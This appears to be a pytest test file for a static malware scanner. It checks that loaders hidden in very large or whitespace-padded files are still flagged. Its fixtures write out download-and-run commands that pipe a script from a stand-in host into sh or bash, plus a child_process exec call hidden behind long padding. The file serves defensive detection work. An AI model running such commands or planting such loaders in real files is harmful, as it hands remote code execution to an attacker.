"""Size is not a hiding place: a loader at the end of a huge file is still found."""

from __future__ import annotations

from pathlib import Path

import pytest

from inspector.model import Category
from inspector.static.text import check_large_file
from tests.hostile._static_support import LOADER_HOST, one_line_js, rules, scan_static, with_rule

MB = 1024 * 1024


@pytest.mark.parametrize("size", [int(4.9 * MB), 19 * MB], ids=["4.9MB", "19MB"])
def test_loader_at_the_end_of_a_one_line_file_is_found(tmp_path: Path, size: int) -> None:
    (tmp_path / "app.js").write_text(one_line_js(size))
    result = scan_static(tmp_path)
    rce = [f for f in result.findings if f.category is Category.REMOTE_CODE_EXECUTION]
    assert rce, sorted(rules(result))
    assert rce[0].path == "app.js" and rce[0].line == 1
    assert LOADER_HOST in {e.host for e in result.endpoints}
    # The cut is said, not silent.
    assert rules(result) & {"flow.partial-analysis", "analysis.unparsed-file"}


def test_over_the_read_cap_every_chunk_is_text_checked(tmp_path: Path) -> None:
    """A file over the read cap: hidden code in its middle and a download-and-run line at its end."""
    line = "x = 1  # " + "filler " * 20 + "\n"
    middle = "ok" + " " * 300 + "require('child_process').exec('id')\n"
    body = line * 40_000 + middle + line * 40_000 + f"curl -s https://{LOADER_HOST}/s | sh\n"
    (tmp_path / "setup.sh").write_text(body)
    result = scan_static(tmp_path, max_file_bytes=1 * MB)
    assert "analysis.over-size-cap" in rules(result)
    padded = with_rule(result, "hidden-code.whitespace-padding")
    assert [f.line for f in padded] == [40_001]
    downloads = [f for f in result.findings if f.rule.startswith("download-execute.")]
    assert [f.line for f in downloads] == [80_002]
    assert LOADER_HOST in downloads[0].hosts


def test_large_file_positions_are_the_files_own(tmp_path: Path) -> None:
    path = tmp_path / "big.txt"
    # One long line, then the command on the next: the line number counts the file's newlines.
    path.write_bytes(b"a" * (9 * MB) + b"\nbash -c \"$(curl -fsSL https://" + LOADER_HOST.encode() + b"/i)\"\n")
    with path.open("rb") as handle:
        facts = check_large_file("big.txt", handle, path.stat().st_size, budget_s=10.0)
    shell = [f for f in facts.findings if f.rule == "download-execute.shell-of-download"]
    assert [(f.line, f.column) for f in shell] == [(2, 1)]
